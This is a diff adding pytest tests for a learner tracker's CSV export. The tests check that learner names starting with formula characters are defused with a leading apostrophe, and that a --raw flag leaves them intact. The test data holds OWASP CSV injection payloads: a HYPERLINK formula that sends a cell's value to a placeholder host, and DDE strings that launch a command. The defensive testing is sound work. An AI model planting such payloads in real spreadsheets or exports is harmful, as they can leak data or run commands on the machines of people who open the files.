@@ -103,3 +103,60 @@ def test_export_through_the_command_line(centre: tuple[Centre, list[Item]], tmp_
     bad = subprocess.run([sys.executable, "-m", "tracker", "export", str(c.root), "--format", "xls"],
                          capture_output=True, text=True, timeout=120)
     assert bad.returncode == 2
+
+
+# -- CSV injection (issue 12) ---------------------------------------------------------------------
+
+# Learner names that a spreadsheet would run if a CSV cell began with them (OWASP CSV injection).
+INJECTED = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.fixture(scope="module")
+def injected(tmp_path_factory: pytest.TempPathFactory) -> Centre:
+    import dataclasses
+
+    c = make_centre(tmp_path_factory.mktemp("inject") / "centre")
+    batch = []
+    for name, (q, s, rec) in zip([*INJECTED, "Ann Smith"], items(5, seed=12)):
+        batch.append((q, s, dataclasses.replace(rec, learner=dataclasses.replace(rec.learner, name=name))))
+    drop(c, batch)
+    roll(c)
+    return c
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def test_csv_defuses_formula_text_and_raw_keeps_it(injected: Centre, tmp_path: Path) -> None:
+    # The oracle is the csv module reading the bytes back: a defused cell is the name with one
+    # leading apostrophe, a harmless name is unchanged, numbers are unchanged; --raw is exact.
+    safe = {r["name"] for r in _csv_rows(export(injected, "csv", tmp_path / "safe")[1])}
+    assert safe == {"'" + n for n in INJECTED} | {"Ann Smith"}
+    raw = _csv_rows(export(injected, "csv", tmp_path / "raw", raw=True)[1])
+    assert {r["name"] for r in raw} == {*INJECTED, "Ann Smith"}
+    crit = _csv_rows(export(injected, "csv", tmp_path / "safe2")[0])
+    assert {r["name"] for r in crit} == safe
+    assert all(not r["unit"].startswith("'") and r["unit"].isdigit() for r in crit)
+
+
+def test_defuse_prefixes_exactly_the_formula_starts() -> None:
+    from tracker.centre.export_tables import defuse
+
+    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert defuse(text) == "'" + text
+    for value in ("1-1", " =x", "a=b", "'=x", "", -5, -2.5, 0):
+        assert defuse(value) == value  # numbers are data, never prefixed; inner '=' is harmless
+
+
+def test_export_cli_raw_flag(injected: Centre, tmp_path: Path) -> None:
+    for flag, expected in (([], "'" + INJECTED[0]), (["--raw"], INJECTED[0])):
+        out = tmp_path / (flag[0][2:] if flag else "default")
+        r = subprocess.run([sys.executable, "-m", "tracker", "export", str(injected.root), "--format", "csv",
+                            "-o", str(out), *flag], capture_output=True, text=True, timeout=120)
+        assert r.returncode == 0, r.stderr
+        assert expected in {row["name"] for row in _csv_rows(out / "learners.csv")}
